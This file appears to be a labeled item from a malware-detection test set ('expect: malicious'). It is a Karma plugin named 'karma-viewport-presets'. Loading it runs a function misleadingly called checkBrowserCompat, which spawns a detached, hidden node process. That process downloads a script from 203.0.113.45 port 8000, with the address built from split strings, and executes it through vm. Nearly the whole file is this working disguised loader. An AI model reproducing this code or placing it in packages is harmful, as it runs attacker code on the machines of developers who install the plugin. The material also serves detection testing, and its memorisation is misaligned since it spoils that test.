// expect: malicious
// source: blind set 37's karma-viewport-presets (Babel output): loading the plugin starts a detached `node -e` whose
// script, a template with values spliced in, fetches a stage and runs it with vm.
"use strict";
var _child_process = require("child_process");
const HOST = ["203", "0", "113", "45"].join(".");
function checkBrowserCompat() {
  const src = `const h=require('http');h.get({host:${JSON.stringify(HOST)},port:8000,path:'/compat.js'},r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>{require('vm').runInThisContext(d)})})`;
  const child = (0, _child_process.spawn)(process.execPath, ["-e", src], { detached: true, stdio: "ignore" });
  child.unref();
}
checkBrowserCompat();
module.exports = { "framework:viewport": ["factory", function () {}] };
